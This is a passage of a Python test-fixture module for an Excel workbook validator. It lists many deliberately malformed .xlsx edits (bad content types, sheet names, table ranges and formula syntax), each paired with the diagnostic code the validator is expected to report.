# ruff: noqa: E501 - a fault is a line
"""One fault for each trap: what is wrong, the code that must say so, and how to make it."""

from __future__ import annotations

from xml.sax.saxutils import escape

from workbook_samples import (
    BOARD,
    BOOK,
    BOOK_LINKS,
    CHART,
    COMMENTS,
    DRAWING,
    HIDDEN,
    SHEET,
    SHEET_LINKS,
    STRINGS,
    STYLES,
    TABLE,
    TYPES,
    Change,
    Parts,
    drop,
    insert_before,
    put,
    replace,
)

Fault = tuple[str, str, tuple[Change, ...]]


def formula(text: str) -> Change:
    """*text* as the formula of F4, a cell outside the table."""
    sound = '_xlfn.IFNA(VLOOKUP("a",$A$4:$D$6,4,FALSE),0)'
    return replace(SHEET, f"<f>{sound}</f>", f"<f>{escape(text)}</f>")


def rule_formula(text: str) -> Change:
    return replace(SHEET, "<formula>$D4&gt;20</formula>", f"<formula>{escape(text)}</formula>")


def validation_formula(text: str) -> Change:
    return replace(SHEET, "<formula1>C4&gt;=0</formula1>", f"<formula1>{escape(text)}</formula1>")


def cell(old: str, new: str) -> Change:
    return replace(SHEET, old, new)


def number_format(code: str) -> Change:
    quoted = escape(code, {'"': "&quot;"})
    return replace(STYLES, 'formatCode="#,##0.00&quot; 元&quot;;[Red]-#,##0.00"', f'formatCode="{quoted}"')  # fmt: skip


def title(text: str) -> Change:
    return replace(BOOK, 'name="列表"', f'name="{escape(text)}"')


def name(text: str) -> Change:
    return replace(BOOK, 'name="Items"', f'name="{text}"')


def table_name(text: str) -> Change:
    return replace(TABLE, 'displayName="SKU"', f'displayName="{text}"')


def add_second_table(ref: str, display: str = "Second", number: int = 2) -> tuple[Change, ...]:
    """Another table on the sheet 'SKU table', with one column called 'a' (the text of A4)."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml"
    link = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/table"
    part = (
        '<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
        f' id="{number}" name="{display}" displayName="{display}" ref="{ref}">'
        f'<autoFilter ref="{ref}"/><tableColumns count="1"><tableColumn id="1" name="a"/>'
        "</tableColumns></table>"
    )
    return (
        put("xl/tables/table2.xml", part),
        insert_before(TYPES, "</Types>", f'<Override PartName="/xl/tables/table2.xml" ContentType="{kind}"/>'),
        insert_before(SHEET_LINKS, "</Relationships>", f'<Relationship Id="rId9" Type="{link}" Target="../tables/table2.xml"/>'),
        replace(SHEET, '<tablePart r:id="rId3"/>', '<tablePart r:id="rId3"/><tablePart r:id="rId9"/>'),
    )  # fmt: skip


def name_for(which: str, text: str) -> Change:
    old = '<definedName name="Rate">0.13<'
    return replace(BOOK, old, f'<definedName name="{which}">{escape(text)}<')


OPEN_XML = "http://schemas.openxmlformats.org"
MAIN = f'xmlns="{OPEN_XML}/spreadsheetml/2006/main"'
NO_LINKS = f'<Relationships xmlns="{OPEN_XML}/package/2006/relationships"></Relationships>'


def link(part: str, target: str, kind: str, more: str = "") -> Change:
    """Another link in *part*, a list of links: rId50."""
    of = kind if "://" in kind else f"{OPEN_XML}/officeDocument/2006/relationships/{kind}"
    added = f'<Relationship Id="rId50" Type="{of}" Target="{target}"{more}/>'
    return insert_before(part, "</Relationships>", added)


def outside(part: str, target: str, kind: str) -> Change:
    """A link out of the file."""
    return link(part, target, kind, ' TargetMode="External"')


def typed(part: str, kind: str) -> Change:
    of = f"application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml"
    return insert_before(TYPES, "</Types>", f'<Override PartName="/{part}" ContentType="{of}"/>')


def pivot(cache: str, items: str, shown: str = "0") -> tuple[Change, ...]:
    """A pivot table of *cache* that shows one item, and cache 1 with *items* for one."""
    table, held = "xl/pivotTables/pivotTable1.xml", "xl/pivotCache/pivotCacheDefinition1.xml"
    links = NO_LINKS
    table_links = "xl/pivotTables/_rels/pivotTable1.xml.rels"
    location = '<location ref="A9:B9" firstHeaderRow="1" firstDataRow="1" firstDataCol="1"/>'
    fields = f'<pivotField><items count="1"><item x="{shown}"/></items></pivotField>'
    field = f'<cacheField name="f"><sharedItems count="1">{items}</sharedItems></cacheField>'
    return (
        put(table, f'<pivotTableDefinition {MAIN} name="p" cacheId="{cache}">{location}<pivotFields count="1">{fields}</pivotFields></pivotTableDefinition>'),
        put(held, f'<pivotCacheDefinition {MAIN}><cacheSource type="external"/><cacheFields count="1">{field}</cacheFields></pivotCacheDefinition>'),
        put(table_links, links),
        link(table_links, "../pivotCache/pivotCacheDefinition1.xml", "pivotCacheDefinition"),
        link(SHEET_LINKS, "../pivotTables/pivotTable1.xml", "pivotTable"),
        link(BOOK_LINKS, "pivotCache/pivotCacheDefinition1.xml", "pivotCacheDefinition"),
        typed(table, "pivotTable"),
        typed(held, "pivotCacheDefinition"),
        replace(BOOK, "</workbook>", '<pivotCaches><pivotCache cacheId="1" r:id="rId50"/></pivotCaches></workbook>'),
    )  # fmt: skip


def external(inside: str, target: str = "", kind: str = "") -> tuple[Change, ...]:
    """A part about other workbooks and programs that holds *inside*."""
    part, links = (
        "xl/externalLinks/externalLink1.xml",
        "xl/externalLinks/_rels/externalLink1.xml.rels",
    )
    relationships = f'xmlns:r="{OPEN_XML}/officeDocument/2006/relationships"'
    return (
        put(part, f"<externalLink {MAIN} {relationships}>{inside}</externalLink>"),
        link(BOOK_LINKS, "externalLinks/externalLink1.xml", "externalLink"),
        typed(part, "externalLink"),
        put(links, NO_LINKS),
        *((outside(links, target, kind),) if target else ()),
        replace(BOOK, "<definedNames>", '<externalReferences><externalReference r:id="rId50"/></externalReferences><definedNames>'),
    )  # fmt: skip


def queries(inside: str) -> tuple[Change, ...]:
    return (
        put("xl/connections.xml", f"<connections {MAIN}>{inside}</connections>"),
        link(BOOK_LINKS, "connections.xml", "connections"),
        typed("xl/connections.xml", "connections"),
    )


def reorder(part: str, first: str, last: str) -> Change:
    """Swap two stretches of *part*."""

    def change(parts: Parts) -> None:
        text = parts[part].decode()
        assert first in text
        assert last in text
        mark = "\0"
        swapped = text.replace(first, mark, 1).replace(last, first, 1).replace(mark, last, 1)
        parts[part] = swapped.encode()

    return change


def own_properties(*numbers: int) -> tuple[Change, ...]:
    """Custom document properties, by their numbers."""
    fields = "".join(
        f'<property fmtid="{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}" pid="{number}" name="p{place}">'
        "<vt:lpwstr>x</vt:lpwstr></property>"
        for place, number in enumerate(numbers)
    )
    document = f"{OPEN_XML}/officeDocument/2006"
    kind = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
    return (
        put(OWN, f'<Properties xmlns="{document}/custom-properties" xmlns:vt="{document}/docPropsVTypes">{fields}</Properties>'),
        insert_before(TYPES, "</Types>", f'<Override PartName="/{OWN}" ContentType="{kind}"/>'),
        link("_rels/.rels", OWN, "custom-properties"),
    )  # fmt: skip


CORE = "docProps/core.xml"
OWN = "docProps/custom.xml"
THEME = "xl/theme/theme1.xml"
CORNER = "<xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
ROW_6 = '<row r="6" spans="1:7" x14ac:dyDescent="0.25">'
B4 = '<c r="B4" s="1"><v>1.5</v></c>'
C4 = '<c r="C4" s="1"><v>10</v></c>'
LIST = '<formula1>"a,b,c"</formula1>'
NESTED = 65
STRUCTURED = "SKU[[#This Row],[Unit price]]"

FAULTS: tuple[Fault, ...] = (
    # -- package -------------------------------------------------------------------------------------
    ("a part without a content type", "PS504", (put("xl/extra.bin", b"?"),)),
    ("a worksheet with the type of plain XML", "PS504", (replace(TYPES, '<Override PartName="/xl/worksheets/sheet3.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>', ""),)),
    ("the content type of a workbook with macros in an .xlsx", "PS504", (replace(TYPES, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),)),
    ("a content type for a part that is gone", "PS504", (insert_before(TYPES, "</Types>", '<Override PartName="/xl/gone.xml" ContentType="application/xml"/>'),)),
    ("a link to a part that is gone", "PS505", (drop(COMMENTS), replace(TYPES, "/xl/comments1.xml", "/xl/comments2.xml"))),
    ("a sheet whose part is gone", "PS505", (drop(HIDDEN),)),
    ("two links with one id", "PS505", (replace(SHEET_LINKS, 'Id="rId2"', 'Id="rId1"'),)),
    ("an r:id that names no link", "PS505", (replace(SHEET, '<hyperlink ref="G5" r:id="rId1"/>', '<hyperlink ref="G5" r:id="rId77"/>'),)),
    ("a picture that names no link", "PS505", (replace(DRAWING, 'r:embed="rId1"', 'r:embed="rId9"'),)),
    ("a calculation chain that names a cell without formula", "PS506", (cell('<f>_xlfn.IFNA(VLOOKUP("a",$A$4:$D$6,4,FALSE),0)</f>', ""), replace("xl/calcChain.xml", 'r="F5" a="1"', 'r="F4"'))),
    ("a calculation chain that names a sheet that is gone", "PS506", (replace("xl/calcChain.xml", 'i="1"', 'i="8"'),)),
    ("merged cells before the cells", "PS507", (replace(BOARD, '<mergeCells count="2"><mergeCell ref="D1:E1"/><mergeCell ref="D2:E2"/></mergeCells>', ""), insert_before(BOARD, "<sheetData>", '<mergeCells count="1"><mergeCell ref="D1:E1"/></mergeCells>'))),
    ("validations twice", "PS507", (insert_before(SHEET, "<hyperlinks>", '<dataValidations count="1"><dataValidation sqref="A9"/></dataValidations>'),)),
    ("defined names before the sheets", "PS507", (replace(BOOK, "<sheets>", "<definedNames/><sheets>"),)),
    ("differential formats before the cell formats", "PS507", (replace(STYLES, "<cellXfs", '<dxfs count="0"/><cellXfs'),)),
    ("a value before its formula", "PS507", (cell('<f t="array" ref="F5">SUM(B4:B6*C4:C6)</f><v>145</v>', '<v>145</v><f t="array" ref="F5">SUM(B4:B6*C4:C6)</f>'),)),
    ("a number format after the fill of a differential format", "PS507", (replace(STYLES, "<dxf><font>", '<dxf><numFmt numFmtId="165" formatCode="0"/><font>'),)),
    ("the colours of a 2010 data bar out of order", "PS507", (reorder(SHEET, '<x14:negativeFillColor rgb="FFFF0000"/>', '<x14:negativeBorderColor rgb="FFFF0000"/>'),)),
    ("the colours of a scale before its thresholds", "PS507", (cell('<colorScale><cfvo type="min" val="0"/>', '<colorScale><color rgb="FFF8696B"/><cfvo type="min" val="0"/>'),)),
    ("XML that is not well-formed", "PS503", (replace(SHEET, "</sheetData>", "</sheetDate>"),)),
    ("a theme that is not well-formed", "PS503", (put("xl/theme/theme1.xml", "<a:theme"),)),
    ("document properties that are not well-formed", "PS503", (put("docProps/core.xml", "<cp:coreProperties>"),)),
    ("shared strings that are not well-formed", "PS503", (replace(STRINGS, "</si>", "</xi>"),)),
    ("a calculation chain that is not well-formed", "PS503", (replace("xl/calcChain.xml", "</calcChain>", ""),)),
    ("a control character in the XML", "PS503", (replace(STRINGS, "on sale", "on\x01sale"),)),
    # -- sheets ----------------------------------------------------------------------------------------
    ("a sheet title of 32 characters", "PS510", (title("x" * 32),)),
    *((f"a sheet title with {mark}", "PS510", (title(f"a{mark}b"),)) for mark in "[]:*?/\\"),
    ("a sheet title that begins with an apostrophe", "PS510", (title("'list"),)),
    ("a sheet title that ends with an apostrophe", "PS510", (title("list'"),)),
    ("a sheet called History", "PS510", (title("history"),)),
    ("a sheet without a title", "PS510", (title(""),)),
    ("two sheet titles that differ by case alone", "PS511", (title("BOARD"),)),
    ("two sheets with one sheet id", "PS512", (replace(BOOK, 'sheetId="3"', 'sheetId="2"'),)),
    ("two sheets with one part", "PS512", (replace(BOOK, 'state="hidden" r:id="rId3"', 'state="hidden" r:id="rId2"'),)),
    ("no visible sheet", "PS513", (replace(BOOK, 'sheetId="1"', 'sheetId="1" state="hidden"'), replace(BOOK, 'sheetId="2"', 'sheetId="2" state="veryHidden"'))),
    ("a state no sheet can have", "PS513", (replace(BOOK, 'state="hidden"', 'state="invisible"'),)),
    ("an active tab beyond the last", "PS514", (replace(BOOK, 'windowHeight="9660"', 'windowHeight="9660" activeTab="3"'),)),
    ("a first tab beyond the last", "PS514", (replace(BOOK, 'windowHeight="9660"', 'windowHeight="9660" firstSheet="7"'),)),
    ("a name of a sheet that is not there", "PS514", (replace(BOOK, 'name="Local" localSheetId="1"', 'name="Local" localSheetId="5"'),)),
    # -- names -----------------------------------------------------------------------------------------
    ("a name like a cell", "PS515", (name("ROI2024"),)),
    ("a name like an R1C1 cell", "PS515", (name("R1C1"),)),
    ("a name that is the letter of a column", "PS515", (name("c"),)),
    ("a name with a space", "PS515", (name("my items"),)),
    ("a name that begins with a digit", "PS515", (name("2nd"),)),
    ("a name of 256 characters", "PS515", (name("n" * 256),)),
    ("two names that differ by case alone", "PS516", (name("rate"),)),
    ("a name for nothing", "PS517", (replace(BOOK, ">0.13<", "><"),)),
    ("a name for a sheet that is gone", "PS565", (replace(BOOK, ">0.13<", ">Gone!$A$1<"),)),
    ("a name with a broken formula", "PS568", (replace(BOOK, ">0.13<", ">SUM(1<"),)),
    ("a name with a function without prefix", "PS560", (replace(BOOK, ">0.13<", ">SEQUENCE(3)<"),)),
    # -- cells -----------------------------------------------------------------------------------------
    ("rows out of order", "PS520", (replace(SHEET, ROW_6, ROW_6.replace('r="6"', 'r="2"')),)),
    ("a row twice", "PS520", (replace(SHEET, ROW_6, ROW_6.replace('r="6"', 'r="5"')),)),
    ("a row beyond the grid", "PS520", (replace(SHEET, "</sheetData>", '<row r="1048577"/></sheetData>'),)),
    ("a row number zero", "PS520", (replace(HIDDEN, '<row r="1"', '<row r="0"'),)),
    ("cells out of order", "PS521", (reorder(SHEET, B4, C4),)),
    ("a cell twice", "PS521", (cell(B4, B4 + B4),)),
    ("a cell in another row", "PS521", (cell('<c r="B4"', '<c r="B40"'),)),
    ("a cell beyond the grid", "PS521", (cell('<c r="G3" t="b">', '<c r="XFE3" t="b">'),)),
    ("a number that is none", "PS522", (cell("<v>1.5</v>", "<v>abc</v>"),)),
    ("NaN", "PS522", (cell("<v>1.5</v>", "<v>NaN</v>"),)),
    ("infinity", "PS522", (cell("<v>1.5</v>", "<v>INF</v>"),)),
    ("a number too large", "PS522", (cell("<v>1.5</v>", "<v>1E+400</v>"),)),
    ("a boolean that is none", "PS522", (cell("<v>1</v></c></row>", "<v>yes</v></c></row>"),)),
    ("an error value that is none", "PS522", (cell("<v>#VALUE!</v>", "<v>#WRONG!</v>"),)),
    ("a cell type that is none", "PS522", (cell('<c r="G3" t="b">', '<c r="G3" t="bool">'),)),
    ("a shared string that is no number", "PS522", (cell('<c r="A4" t="s"><v>5</v>', '<c r="A4" t="s"><v>a</v>'),)),
    ("a date that is none", "PS522", (cell('<c r="B4" s="1">', '<c r="B4" s="1" t="d">'),)),
    ("a text of 32,768 characters", "PS523", (replace(STRINGS, "<t>a</t>", f"<t>{'x' * 32_768}</t>"),)),
    ("a text too long in UTF-16 alone", "PS523", (replace(STRINGS, "<t>a</t>", f"<t>{'😀' * 16_384}</t>"),)),
    ("an inline text too long", "PS523", (cell('<c r="G7" t="s"><v>10</v>', f'<c r="G7" t="inlineStr"><is><t>{"x" * 32_768}</t></is>'),)),
    ("a formula's text too long", "PS523", (cell("<v>yes</v>", f"<v>{'x' * 32_768}</v>"),)),
    ("a text of 254 line feeds", "PS523", (replace(STRINGS, "<t>a</t>", "<t>" + "x\n" * 254 + "</t>"),)),
    ("columns that overlap", "PS524", (cell('<col min="2"', '<col min="1"'),)),
    ("columns from right to left", "PS524", (cell('<col min="2" max="4"', '<col min="4" max="2"'),)),
    ("a column beyond the grid", "PS524", (cell('<col min="2" max="4"', '<col min="2" max="16385"'),)),
    ("a column 300 wide", "PS524", (cell('width="20.7109375"', 'width="300"'),)),
    ("a row 410 points high", "PS525", (cell('ht="30"', 'ht="410"'),)),
    ("outline level 8 of a row", "PS525", (replace(BOARD, 'outlineLevel="1"', 'outlineLevel="8"'),)),
    ("outline level 8 of a column", "PS525", (cell('<col min="2"', '<col outlineLevel="8" min="2"'),)),
    ("a merge of one cell", "PS526", (replace(BOARD, 'ref="D1:E1"', 'ref="D1"'),)),
    ("a merge of one cell spelled as a range", "PS526", (replace(BOARD, 'ref="D1:E1"', 'ref="D1:D1"'),)),
    ("merged cells that overlap", "PS526", (replace(BOARD, 'ref="D1:E1"', 'ref="D1:E2"'),)),
    ("a merge of no range", "PS526", (replace(BOARD, 'ref="D1:E1"', 'ref="D1:"'),)),
    ("an empty list of merges", "PS526", (replace(BOARD, '<mergeCell ref="D1:E1"/><mergeCell ref="D2:E2"/>', ""),)),
    ("a dimension of no range", "PS527", (cell('<dimension ref="A1:G7"/>', '<dimension ref="A0"/>'),)),
    ("a zoom of 500 percent", "PS528", (cell('tabSelected="1"', 'tabSelected="1" zoomScale="500"'),)),
    ("a pane that is none", "PS528", (cell('activePane="bottomRight"', 'activePane="middle"'),)),
    ("a selection of no range", "PS528", (cell('sqref="B1"', 'sqref="B"'),)),
    ("a pane that begins at no cell", "PS528", (cell('topLeftCell="B4"', 'topLeftCell="B0"'),)),
    ("a header of 256 characters", "PS529", (cell("&amp;CSKU table", "x" * 256),)),
    ("a footer of 256 characters", "PS529", (cell("&amp;P / &amp;N", "x" * 256),)),
    ("an address of 2,080 characters", "PS530", (replace(SHEET_LINKS, "https://example.com/", "https://example.com/" + "x" * 2_060),)),
    ("a tooltip of 256 characters", "PS530", (cell('location="Board!A1"', f'location="Board!A1" tooltip="{"x" * 256}"'),)),
    ("a link in no cell", "PS530", (cell('hyperlink ref="G6"', 'hyperlink ref="6G"'),)),
    ("65,531 links", "PS530", (cell("</hyperlinks>", '<hyperlink ref="G7" location="Board!A1"/>' * 65_529 + "</hyperlinks>"),)),
    ("a filter inside a table", "PS531", (cell("<mergeCells", '<autoFilter ref="A3:B6"/><mergeCells'),)),
    ("a filter of no range", "PS531", (replace(BOARD, '<autoFilter ref="A1:B4"/>', '<autoFilter ref="A1:"/>'),)),
    ("a filtered column outside the filter", "PS531", (replace(BOARD, '<autoFilter ref="A1:B4"/>', '<autoFilter ref="A1:B4"><filterColumn colId="2"/></autoFilter>'),)),
    ("a print scale of 500", "PS532", (cell("<pageSetup", '<pageSetup scale="500"'),)),
    ("a margin of 60 inches", "PS532", (cell('left="0.7"', 'left="60"'),)),
    ("1,027 page breaks", "PS532", (replace(BOARD, "<drawing r:id", f'<rowBreaks>{"".join(f"<brk id={chr(34)}{n}{chr(34)}/>" for n in range(1, 1_028))}</rowBreaks><drawing r:id'),)),
    ("a protected range of no range", "PS533", (cell("<mergeCells", '<protectedRanges><protectedRange name="a" sqref="?"/></protectedRanges><mergeCells'),)),
    # -- tables ----------------------------------------------------------------------------------------
    ("a table name like a cell", "PS540", (table_name("ROI2024"),)),
    ("a table name like an R1C1 cell", "PS540", (table_name("R1C1"),)),
    ("a table name with a space", "PS540", (table_name("my table"),)),
    ("a table called like a defined name", "PS540", (table_name("rate"),)),
    ("two tables with one name", "PS540", add_second_table("F3:F4", "sku")),
    ("two tables with one id", "PS541", add_second_table("A9:A10", number=1)),
    ("one table listed twice", "PS541", (cell('<tablePart r:id="rId3"/>', '<tablePart r:id="rId3"/><tablePart r:id="rId3"/>'),)),
    ("a header cell with another text", "PS542", (replace(STRINGS, "<t>Unit price</t>", "<t>Price</t>"),)),
    ("a header cell with a number", "PS542", (cell('<c r="B3" s="1" t="s"><v>2</v></c>', '<c r="B3" s="1"><v>2024</v></c>'), replace(TABLE, 'name="Unit price"', 'name="2024"'))),
    ("a header cell that is missing", "PS542", (cell('<c r="A3" t="s"><v>1</v></c>', ""),)),
    ("a header cell that is empty", "PS542", (cell('<c r="A3" t="s"><v>1</v></c>', '<c r="A3"/>'),)),
    ("a header cell with a formula", "PS542", (cell('<c r="A3" t="s"><v>1</v></c>', '<c r="A3" t="str"><f>"Item"</f><v>Item</v></c>'),)),
    ("two columns that differ by case alone", "PS543", (replace(TABLE, 'name="Unit price"', 'name="item"'),)),
    ("a column without a name", "PS543", (replace(TABLE, 'name="Unit price"', 'name=""'),)),
    ("a column name of 256 characters", "PS543", (replace(TABLE, 'name="Unit price"', f'name="{"x" * 256}"'),)),
    ("tables that overlap", "PS544", add_second_table("A4:A9")),
    ("merged cells inside a table", "PS544", (cell('ref="A1:D1"', 'ref="A5:B5"'),)),
    ("a table with a header alone", "PS545", (replace(TABLE, 'ref="A3:D6"', 'ref="A3:D3"'),)),
    ("a table of no range", "PS545", (replace(TABLE, 'ref="A3:D6"', 'ref="D6:A3"'),)),
    ("a table wider than its columns", "PS545", (replace(TABLE, 'ref="A3:D6"', 'ref="A3:E6"'),)),
    ("a wrong count of columns", "PS545", (replace(TABLE, 'tableColumns count="4"', 'tableColumns count="5"'),)),
    ("two columns with one id", "PS546", (replace(TABLE, 'tableColumn id="2"', 'tableColumn id="1"'),)),
    ("a filter smaller than its table", "PS547", (replace(TABLE, '<autoFilter ref="A3:D6"/>', '<autoFilter ref="A3:D5"/>'),)),
    # -- conditional formats and validations -------------------------------------------------------------
    ("a conditional format for no cells", "PS550", (cell('conditionalFormatting sqref="D4:D6"', 'conditionalFormatting sqref="D4:"'),)),
    ("a conditional format without a range", "PS550", (cell('conditionalFormatting sqref="D4:D6"', 'conditionalFormatting sqref=""'),)),
    ("a priority that no 32 bits hold", "PS550", (cell('priority="1"', 'priority="99999999999"'),)),
    ("a table's id that no 32 bits hold", "PS508", (replace(TABLE, ' id="1" ', ' id="99999999999" '),)),
    ("a count that no 32 bits hold", "PS508", (replace(STYLES, '<cellXfs count="', '<cellXfs count="9999999999'),)),
    ("a conditional format of an unknown kind", "PS508", (cell('type="expression"', 'type="formula"'),)),
    ("a conditional format without a formula", "PS550", (cell("<formula>$D4&gt;20</formula>", ""),)),
    ("a conditional format without a priority", "PS550", (cell('priority="1"', ""),)),
    ("a conditional format with an unknown operator", "PS508", (cell('operator="greaterThan"', 'operator="more"'),)),
    ("a colour scale with a colour too few", "PS550", (cell('<color rgb="FF63BE7B"/>', ""),)),
    ("a data bar with one threshold", "PS550", (cell('<dataBar><cfvo type="min"/>', "<dataBar>"),)),
    ("an icon set with two thresholds", "PS550", (cell('<cfvo type="percent" val="33"/>', ""),)),
    ("a threshold of an unknown kind", "PS508", (cell('<cfvo type="percentile" val="50"/>', '<cfvo type="middle" val="50"/>'),)),
    ("a 2010 conditional format for no cells", "PS550", (cell("<xm:sqref>B4:B6</xm:sqref>", "<xm:sqref>B4-B6</xm:sqref>"),)),
    ("a structured reference in a conditional format", "PS551", (rule_formula("SKU[Total]>1"),)),
    ("a structured reference in a validation", "PS551", (validation_formula("COUNTIF(SKU[Item],C4)=1"),)),
    ("a structured reference as the source of a list", "PS551", (cell(LIST, "<formula1>SKU[Item]</formula1>"),)),
    ("an unqualified reference in a conditional format", "PS551", (rule_formula("[@Total]>1"),)),
    ("a missing sheet in a conditional format", "PS565", (rule_formula("Gone!$A$1>1"),)),
    ("a broken formula in a conditional format", "PS568", (rule_formula("AND(1"),)),
    ("a function without prefix in a validation", "PS560", (validation_formula("IFNA(C4,0)=1"),)),
    ("a validation for no cells", "PS552", (cell('sqref="A4:A6"', 'sqref="A4:A"'),)),
    ("a validation of an unknown type", "PS508", (cell('type="custom"', 'type="any"'),)),
    ("a validation without its formula", "PS552", (cell("<formula1>C4&gt;=0</formula1>", ""),)),
    ("a validation between one end", "PS552", (cell("<formula2>9</formula2>", ""),)),
    ("a validation with an unknown operator", "PS508", (cell('type="decimal"', 'type="decimal" operator="within"'),)),
    ("a prompt of 256 characters", "PS553", (cell('prompt="0 to 9"', f'prompt="{"x" * 256}"'),)),
    ("a prompt title of 33 characters", "PS553", (cell('promptTitle="Price"', f'promptTitle="{"x" * 33}"'),)),
    ("an error title of 33 characters", "PS553", (cell('promptTitle="Price"', f'errorTitle="{"x" * 33}"'),)),
    ("an error message of 256 characters", "PS553", (cell('promptTitle="Price"', f'error="{"x" * 256}"'),)),
    ("a list of 256 characters", "PS554", (cell(LIST, f'<formula1>"{"x," * 128}"</formula1>'),)),
    # -- formulas --------------------------------------------------------------------------------------
    *((f"{call} without its prefix", "PS560", (formula(call),)) for call in (
        "IFNA(A4,0)", "IFS(A4=1,2)", "SWITCH(A4,1,2)", "MAXIFS(B4:B6,B4:B6,1)", 'TEXTJOIN(",",TRUE,A4:A6)',
        "CONCAT(A4:A6)", "AGGREGATE(9,6,B4:B6)", "CEILING.MATH(B4)", "PERCENTILE.INC(B4:B6,0.5)",
        "RANK.EQ(B4,B4:B6)", "MODE.SNGL(B4:B6)", "STDEV.S(B4:B6)", "VAR.S(B4:B6)", "NORM.S.INV(0.5)",
        "FORECAST.LINEAR(1,B4:B6,C4:C6)", "ISOWEEKNUM(B4)", "DAYS(B4,C4)", "UNICHAR(65)",
        "XLOOKUP(1,B4:B6,C4:C6)", "XMATCH(1,B4:B6)", "LET(_xlpm.x,1,_xlpm.x)", "FILTER(B4:B6,C4:C6)",
        "SORT(B4:B6)", "UNIQUE(B4:B6)", "SEQUENCE(3)",
    )),
    ("lower case without its prefix", "PS560", (formula("ifna(A4,0)"),)),
    *((f"_xlfn.{call} that needs none", "PS561", (formula(f"_xlfn.{call}"),)) for call in (
        "NETWORKDAYS.INTL(B4,C4)", "WORKDAY.INTL(B4,1)", "IFERROR(B4,0)", "SUMIFS(B4:B6,C4:C6,1)",
        "COUNTIFS(C4:C6,1)", "AVERAGEIFS(B4:B6,C4:C6,1)",
    )),
    ("FILTER without its inner prefix", "PS561", (formula("_xlfn.FILTER(B4:B6,C4:C6)"),)),
    ("SORT without its inner prefix", "PS561", (formula("_xlfn.SORT(B4:B6)"),)),
    ("a parameter of LET without prefix", "PS562", (formula("_xlfn.LET(x,1,x+1)"),)),
    ("a parameter of LAMBDA without prefix", "PS562", (formula("_xlfn.MAP(B4:B6,_xlfn.LAMBDA(v,v*2))"),)),
    ("[@Column] in a cell", "PS563", (cell(f"<f>{STRUCTURED}*", "<f>[@[Unit price]]*"),)),
    ("[[#This Row],[Column]] without its table", "PS563", (cell(f"<f>{STRUCTURED}*", "<f>[[#This Row],[Unit price]]*"),)),
    ("Table[@Column] in a cell", "PS563", (cell(f"<f>{STRUCTURED}*", "<f>SKU[@[Unit price]]*"),)),
    ("Table[[#This Row],Column] in a cell", "PS563", (formula("SKU[[#This Row],Total]"),)),
    ("a column without its table outside the table", "PS563", (formula("SUM([Total])"),)),
    ("a part of a table that is none", "PS563", (formula("ROWS(SKU[#Body])"),)),
    ("[@Column] in a calculated column", "PS563", (replace(TABLE, f">{STRUCTURED}*", ">[@[Unit price]]*"),)),
    ("a table that is not there", "PS564", (formula("SUM(Stock[Total])"),)),
    ("a column that is not there", "PS564", (formula("SUM(SKU[Sum])"),)),
    ("a column whose # is not escaped", "PS564", (replace(TABLE, "[Stock '#1]", "[Stock '1]"),)),
    ("a column that is not there, in a range of columns", "PS564", (formula("SUM(SKU[[Unit price]:[Sum]])"),)),
    ("a sheet that is not there", "PS565", (formula("Gone!A1"),)),
    ("a quoted sheet that is not there", "PS565", (formula("SUM('My sheet'!A1:A3)"),)),
    ("a sheet that is not there at the end of a 3D reference", "PS565", (formula("SUM(Board:Gone!A1)"),)),
    ("a name that is not there", "PS566", (formula("Rates*2"),)),
    ("a cell beyond the grid in a formula", "PS566", (formula("A1048577+1"),)),
    ("a function that is none", "PS567", (formula("VLOKUP(1,A4:D6,2)"),)),
    ("a function in Chinese", "PS567", (formula("求和(B4:B6)"),)),
    ("parentheses never closed", "PS568", (formula("SUM(B4:B6"),)),
    ("a parenthesis too many", "PS568", (formula("SUM(B4:B6))"),)),
    ("semicolons between arguments", "PS568", (formula("SUM(B4;B5)"),)),
    ("a text never closed", "PS568", (formula('IF(A4="a,1,2)'),)),
    ("an operator at the end", "PS568", (formula("B4+"),)),
    ("an operator too many", "PS568", (formula("B4+*B5"),)),
    ("two values side by side", "PS568", (formula('"a""b""c" 1"d"'),)),
    ("an @ before a reference", "PS568", (formula("@B4:B6"),)),
    ("a # after a reference", "PS568", (formula("SUM(F6#)"),)),
    ("a bracket never closed", "PS568", (formula("SUM(SKU[Total)"),)),
    ("an = before the formula", "PS568", (formula("=SUM(B4:B6)"),)),
    ("full-width parentheses", "PS568", (formula("SUM（B4:B6）"),)),
    ("a formula of 8,193 characters", "PS569", (formula("+".join(["B4"] * 2_731) + "+"[:0] + "+1"),)),
    (f"{NESTED} levels", "PS569", (formula("ABS(" * NESTED + "1" + ")" * NESTED),)),
    ("256 arguments", "PS569", (formula(f"SUM({','.join(['1'] * 256)})"),)),
    ("a text of 256 characters in a formula", "PS569", (formula(f'LEN("{"x" * 256}")'),)),
    ("too few arguments", "PS570", (formula("VLOOKUP(1,A4:D6)"),)),
    ("too many arguments", "PS570", (formula("IF(1,2,3,4)"),)),
    ("a shared formula that is written nowhere", "PS571", (cell('<f>_xlfn.IFNA(VLOOKUP("a",$A$4:$D$6,4,FALSE),0)</f>', '<f t="shared" si="3"/>'),)),
    ("a shared formula without its range", "PS571", (cell("<f>_xlfn.IFNA(", '<f t="shared" si="3">_xlfn.IFNA('),)),
    ("an array formula without its range", "PS571", (cell('<f t="array" ref="F5">', '<f t="array">'),)),
    ("a spilling cell without metadata", "PS572", (drop("xl/metadata.xml"), replace(TYPES, '<Override PartName="/xl/metadata.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheetMetadata+xml"/>', ""), replace(BOOK_LINKS, '<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sheetMetadata" Target="metadata.xml"/>', ""))),
    ("a metadata index beyond the last", "PS572", (cell('cm="1"', 'cm="9"'),)),
    # -- drawings --------------------------------------------------------------------------------------
    ("a drawing beyond the grid", "PS535", (replace(DRAWING, "<xdr:col>13</xdr:col>", "<xdr:col>20000</xdr:col>"),)),
